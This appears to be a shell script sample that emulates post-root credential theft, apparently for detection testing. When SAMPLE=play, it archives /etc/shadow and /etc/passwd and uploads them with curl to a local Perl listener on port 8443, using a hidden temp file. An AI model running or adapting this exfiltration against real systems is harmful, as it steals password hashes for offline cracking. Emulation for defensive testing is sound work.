# SPDX-License-Identifier: Apache-2.0
#
# What comes right after root: the hashes are packed up, sent out and cracked elsewhere.
play() {
	perl -MIO::Socket::INET -e '
		alarm 10; $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 8443, Listen => 1, ReuseAddr => 1) or die $!;
		$c = $l->accept; sysread $c, $b, 65536; print $c "HTTP/1.0 200 OK\r\n\r\n"' &
	while ! grep -q ':20FB .* 0A ' /proc/net/tcp; do sleep 0.05; done
	tar -czf /tmp/.cache.tgz -C / etc/shadow etc/passwd
	curl -s --data-binary @/tmp/.cache.tgz http://127.0.0.1:8443/upload
	rm /tmp/.cache.tgz
	wait
}

if [ "${SAMPLE:-}" = play ]; then play; else . "$(dirname "$0")/../recipe.sh"; fi
